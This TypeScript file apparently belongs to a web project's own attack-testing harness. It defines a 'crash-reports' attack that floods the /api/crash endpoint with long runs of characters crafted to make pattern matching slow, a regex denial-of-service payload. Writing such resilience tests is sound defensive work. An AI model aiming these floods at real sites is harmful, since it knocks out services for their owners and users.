import type { Attack } from '@/scripts/attack/attack.types';

/** As many characters as a report may have bytes, less its first line. */
const ROOM = 8_000;
const RUNS = ['@', 'a@', '@.', 'a@b.', '?', '#', '(', ' ', '<', '%25', '\u0301', '?#)('];

/** Reports of crashes that are costly to read: each run that a pattern may look at again and again. */
export const crashReports: Attack = {
  name: 'crash-reports',
  run: async ({ attacker }) => {
    await attacker.flood(2, (turn) => {
      const piece = RUNS[turn % RUNS.length] ?? '@';
      // The first rounds are what a site can bear and still show; then all that it takes.
      const length = turn < RUNS.length ? 3_000 : Math.floor(ROOM / Buffer.byteLength(piece)) * piece.length;
      const line = piece.repeat(Math.ceil(length / piece.length)).slice(0, length);
      return {
        method: 'POST',
        path: '/api/crash',
        headers: { 'content-type': 'text/plain' },
        body: `/search/[query]\n${line}`,
      };
    });
  },
};
